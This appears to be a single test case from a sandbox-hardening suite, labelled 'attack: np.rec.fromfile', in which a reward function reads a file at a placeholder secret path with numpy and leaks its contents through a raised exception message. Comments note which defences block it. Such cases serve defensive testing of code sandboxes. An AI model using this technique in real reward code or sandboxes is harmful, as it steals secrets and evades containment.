# attack: np.rec.fromfile
# group: numpy
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    raise ValueError(np.rec.fromfile('@SECRET@', formats='S35', shape=1))
